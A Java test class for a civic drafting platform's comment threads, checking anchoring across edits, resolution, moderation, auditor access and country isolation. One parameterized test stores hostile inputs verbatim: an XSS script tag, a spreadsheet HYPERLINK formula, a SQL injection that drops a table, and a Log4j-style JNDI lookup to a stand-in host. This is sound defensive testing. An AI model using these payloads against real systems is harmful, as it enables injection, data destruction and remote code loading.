package org.codraft.discussion;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.time.Duration;
import java.util.List;
import java.util.Locale;
import java.util.NoSuchElementException;
import java.util.Set;
import java.util.UUID;
import org.codraft.drafting.Playback;
import org.codraft.history.Change;
import org.codraft.membership.Refused;
import org.codraft.shared.NotPossible;
import org.codraft.testing.CodraftTest;
import org.codraft.testing.Forum;
import org.codraft.testing.Forum.Topic;
import org.codraft.testing.Heard;
import org.codraft.testing.Person;
import org.codraft.testing.TestClock;
import org.codraft.testing.Workshop;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;

/** Comments stand at the words they speak of, whatever becomes of these. */
@CodraftTest
class CommentsTest {

    @Autowired
    private Forum forum;

    @Autowired
    private Workshop workshop;

    @Autowired
    private Discussing discussing;

    @Autowired
    private Moderation moderation;

    @Autowired
    private Conversations conversations;

    @Autowired
    private Playback playback;

    @Autowired
    private Heard heard;

    private Topic topic;
    private Person yusuf;
    private Person official;

    @BeforeEach
    void begin() {
        topic = forum.aTopic();
        yusuf = forum.aCommenterOf(topic);
        official = forum.anOfficialOf(topic);
    }

    @Test
    void standAtTheirWordsThroughEveryEdit() {
        UUID thread = forum.comments(yusuf, topic, "publish nothing", "Not true for Nairobi.");

        forum.rewrite(topic, "Today most hospitals publish nothing about their contracts.");

        ThreadShown shown = forum.thread(official, thread);
        assertThat(shown.place().orElseThrow().words()).isEqualTo("publish nothing");
        assertThat(shown.place().orElseThrow().section()).isEqualTo("problem");
        assertThat(shown.thread().quote()).isEqualTo("publish nothing");
        assertThat(shown.comments()).singleElement().satisfies(comment -> {
            assertThat(comment.words()).isEqualTo("Not true for Nairobi.");
            assertThat(comment.author().person()).isEqualTo(yusuf.signedIn().name());
            assertThat(comment.author().organisation()).startsWith("Organisation of ");
        });
    }

    @Test
    void stayOnDeletedTextWithTheirQuoteAndComeBackWithIt() {
        UUID thread = forum.comments(yusuf, topic, "nothing", "Which contracts?");
        long before = forum.version(topic);

        forum.rewrite(topic, "Hospitals publish about their contracts.");

        ThreadShown deleted = forum.thread(official, thread);
        assertThat(deleted.isOnDeletedText()).isTrue();
        assertThat(deleted.place().orElseThrow().quote()).isEqualTo("nothing");

        official.acts(() -> playback.restore(topic.draft(), before, "It was right."));

        assertThat(forum.placeOf(official, thread).words()).isEqualTo("nothing");
        assertThat(forum.thread(official, thread).isOnDeletedText()).isFalse();
    }

    @Test
    void speakOfASectionAFactAMilestoneOrTheWholeCommitment() {
        UUID milestone = workshop.aMilestoneOf(topic.country(), topic.commitment());

        List.of(
                        new About.Section(Locale.ENGLISH, "causes"),
                        new About.Field("lead"),
                        new About.OnMilestone(milestone),
                        new About.Whole())
                .forEach(about ->
                        yusuf.does(() -> discussing.open(topic.commitment(), about, Said.words("Who is it?"))));

        assertThat(forum.discussion(official, topic).threads())
                .extracting(shown -> shown.thread().about())
                .containsExactly(AboutKind.SECTION, AboutKind.FIELD, AboutKind.MILESTONE, AboutKind.COMMITMENT);
        assertThat(forum.discussion(official, topic).threads())
                .extracting(shown -> shown.thread().number())
                .containsExactly(1, 2, 3, 4);
    }

    @Test
    void areRefusedOnWhatTheCommitmentDoesNotHave() {
        Topic other = forum.aTopicOf(topic.country());
        UUID milestone = workshop.aMilestoneOf(topic.country(), other.commitment());
        About.Words here = forum.on(topic, "nothing");

        List.of(
                        new About.Field("secret"),
                        new About.OnMilestone(milestone),
                        new About.OnSuggestion(UUID.randomUUID()),
                        new About.Words(other.draft(), 0, 2, 2),
                        new About.Words(here.draft(), here.version() + 1, here.from(), here.to()),
                        new About.Words(here.draft(), here.version(), here.from(), 90_000),
                        new About.Words(here.draft(), here.version(), 0, 1),
                        new About.Words(here.draft(), here.version(), here.to(), here.from()),
                        new About.Words(here.draft(), here.version(), here.from(), here.from()))
                .forEach(about -> assertThatThrownBy(
                                () -> yusuf.does(() -> discussing.open(topic.commitment(), about, Said.words("Mine."))))
                        .as("%s", about)
                        .isInstanceOf(NotPossible.class));

        assertThat(forum.discussion(official, topic).threads()).isEmpty();
    }

    @Test
    void goOnInRepliesThatOpenAResolvedThreadAgain() {
        UUID thread = forum.comments(yusuf, topic, "nothing", "Which contracts?");
        official.acts(() -> discussing.resolve(thread));
        assertThat(forum.thread(yusuf, thread).thread().state()).isEqualTo(CommentThread.State.RESOLVED);

        official.does(() -> discussing.reply(thread, Said.words("All of them.")));

        ThreadShown shown = forum.thread(yusuf, thread);
        assertThat(shown.thread().state()).isEqualTo(CommentThread.State.OPEN);
        assertThat(shown.comments())
                .extracting(CommentShown::words)
                .containsExactly("Which contracts?", "All of them.");
        assertThat(heard.of(topic.commitment(), DiscussionEvent.CommentWritten.class))
                .extracting(DiscussionEvent.CommentWritten::opensThread)
                .containsExactly(true, false);
        assertThat(heard.of(topic.commitment(), DiscussionEvent.CommentWritten.class)
                        .getLast()
                        .participants())
                .containsExactly(yusuf.seat());
    }

    @Test
    void areResolvedByWhoeverOpenedThemOrMayWriteAndByNobodyElse() {
        UUID thread = forum.comments(yusuf, topic, "nothing", "Which contracts?");
        Person another = forum.aCommenterOf(topic);

        assertThatThrownBy(() -> another.acts(() -> discussing.resolve(thread))).isInstanceOf(Refused.class);
        assertThat(forum.refusalsOf(another)).isEqualTo(1);

        yusuf.acts(() -> discussing.resolve(thread));
        official.acts(() -> discussing.reopen(thread));
        assertThat(forum.thread(yusuf, thread).thread().state()).isEqualTo(CommentThread.State.OPEN);
    }

    @Test
    void areEditedByTheirAuthorForAWhileAndTheHistoryKeepsWhatTheySaid() {
        UUID thread = forum.comments(yusuf, topic, "nothing", "Which contract?");
        UUID comment = forum.thread(yusuf, thread).comments().getFirst().id();

        yusuf.acts(() -> discussing.edit(comment, Said.words("Which contracts?")));

        CommentShown shown = forum.thread(official, thread).comments().getFirst();
        assertThat(shown.words()).isEqualTo("Which contracts?");
        assertThat(shown.editedAt()).isPresent();
        assertThat(history(official))
                .filteredOn(change -> change.thing().equals("comment") && change.act() == Change.Act.CHANGED)
                .singleElement()
                .satisfies(change -> assertThat(change.fields())
                        .contains(new Change.FieldChange(
                                change.fields().getFirst().field(), "Which contract?", "Which contracts?")));
        assertThatThrownBy(() -> official.acts(() -> discussing.edit(comment, Said.words("Mine."))))
                .isInstanceOf(Refused.class);
        assertThatThrownBy(() -> TestClock.in(
                        Comment.EDITABLE_FOR.plus(Duration.ofSeconds(1)),
                        () -> yusuf.does(() -> {
                            discussing.edit(comment, Said.words("Too late."));
                            return comment;
                        })))
                .isInstanceOf(NotPossible.class);
    }

    private List<Change> history(Person reader) {
        return reader.does(() -> conversations.history(topic.commitment(), Long.MAX_VALUE, 50));
    }

    @Test
    void areHiddenFromReadersWithTheReasonAndShownToAuditors() {
        UUID thread = forum.comments(yusuf, topic, "nothing", "The minister is a thief.");
        UUID comment = forum.thread(yusuf, thread).comments().getFirst().id();
        Person administrator = forum.anAdministratorOf(topic);
        Person auditor = forum.anAuditorOf(topic);
        assertThatThrownBy(() -> administrator.acts(() -> moderation.hide(comment, " ")))
                .isInstanceOf(NotPossible.class);

        administrator.acts(() -> moderation.hide(comment, "An insult."));

        CommentShown toReaders = forum.thread(official, thread).comments().getFirst();
        assertThat(toReaders.words()).isEmpty();
        assertThat(toReaders.hidden()).isTrue();
        assertThat(toReaders.hiddenReason()).isEqualTo("An insult.");
        assertThat(forum.thread(auditor, thread).comments().getFirst().words()).isEqualTo("The minister is a thief.");
        assertThat(history(official)).noneMatch(change -> change.toString().contains("thief"));
        assertThat(history(auditor)).anyMatch(change -> change.toString().contains("thief"));

        administrator.acts(() -> moderation.show(comment, "It was a quotation."));
        assertThat(forum.thread(official, thread).comments().getFirst().words()).isEqualTo("The minister is a thief.");
    }

    @Test
    void mentionPeopleAndOrganisationsOfThisCountryOnly() {
        Person stranger = forum.aCommenterOf(forum.aTopic());
        UUID organisation = forum.organisationOf(official);

        yusuf.does(() -> discussing.open(
                topic.commitment(),
                new About.Whole(),
                Said.words("What do you say?").to(Set.of(official.seat()), Set.of(organisation))));

        assertThat(forum.discussion(yusuf, topic).threads().getFirst().comments())
                .singleElement()
                .satisfies(comment -> {
                    assertThat(comment.people()).containsExactly(official.seat());
                    assertThat(comment.organisations()).containsExactly(organisation);
                });
        assertThatThrownBy(() -> yusuf.does(() -> discussing.open(
                        topic.commitment(),
                        new About.Whole(),
                        Said.words("And you?").to(Set.of(stranger.seat()), Set.of()))))
                .isInstanceOf(NotPossible.class);
        String typed = official.signedIn().name().substring(0, 8);
        assertThat(yusuf.does(() -> conversations.mentionable(typed)))
                .extracting(Mentionable::id)
                .contains(official.seat())
                .doesNotContain(stranger.seat());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "=HYPERLINK(\"https://elsewhere.example\")",
                "'; drop table comment; --",
                "{0} {1} ${jndi:ldap://elsewhere.example}",
                "\u202etxet esrever\u202c",
                "😀"
            })
    void keepWordsAsTheyWereWritten(String hostile) {
        UUID thread = forum.comments(yusuf, topic, "nothing", hostile);

        assertThat(forum.thread(official, thread).comments().getFirst().words()).isEqualTo(hostile);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "  ", "a\u0000b", "\ud83d"})
    void sayNothingThatNobodyCouldRead(String words) {
        assertThatThrownBy(() -> Said.words(words)).isInstanceOf(NotPossible.class);
    }

    @Test
    void areClosedToOtherCountries() {
        UUID thread = forum.comments(yusuf, topic, "nothing", "Which contracts?");
        UUID comment = forum.thread(yusuf, thread).comments().getFirst().id();
        Person stranger = forum.anAdministratorOf(forum.aTopic());

        assertThat(stranger.does(() -> conversations.thread(thread))).isEmpty();
        assertThatThrownBy(() -> stranger.does(() -> conversations.of(topic.commitment())))
                .isInstanceOf(NoSuchElementException.class);
        assertThatThrownBy(() -> stranger.does(() -> discussing.reply(thread, Said.words("Mine."))))
                .isInstanceOf(NoSuchElementException.class);
        assertThatThrownBy(() -> stranger.acts(() -> moderation.hide(comment, "Because.")))
                .isInstanceOf(NoSuchElementException.class);
        assertThatThrownBy(() -> stranger.does(
                        () -> discussing.open(topic.commitment(), new About.Whole(), Said.words("Mine."))))
                .isInstanceOf(NoSuchElementException.class);
        assertThat(forum.thread(yusuf, thread).comments()).hasSize(1);
    }

    @Test
    void areReadAndNotWrittenByAuditors() {
        Person auditor = forum.anAuditorOf(topic);
        UUID thread = forum.comments(yusuf, topic, "nothing", "Which contracts?");

        assertThatThrownBy(() -> auditor.does(() -> discussing.reply(thread, Said.words("Mine."))))
                .isInstanceOf(Refused.class);
        assertThat(forum.thread(auditor, thread).comments()).hasSize(1);
        assertThat(forum.discussion(auditor, topic).mayComment()).isFalse();
    }
}
